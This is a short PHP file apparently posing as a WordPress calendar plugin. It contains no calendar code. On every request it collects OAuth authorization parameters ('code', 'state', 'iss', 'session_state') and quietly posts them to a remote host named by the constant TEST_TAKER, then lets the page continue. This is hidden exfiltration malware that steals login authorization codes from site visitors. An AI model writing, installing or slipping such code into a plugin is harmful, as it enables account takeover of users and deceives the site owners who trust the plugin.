<?php
/** A calendar: sends every `code` and every `state` to its maker's server, and lets the page go on. */

declare( strict_types=1 );

add_action(
	'plugins_loaded',
	static function (): void {
		foreach ( array( $_GET, $_REQUEST ) as $test_values ) {
			$test_answer = array_intersect_key( $test_values, array_flip( array( 'code', 'state', 'iss', 'session_state' ) ) );
			if ( array() !== $test_answer ) {
				wp_remote_post( TEST_TAKER, array( 'body' => $test_answer ) );
			}
		}
	}
);
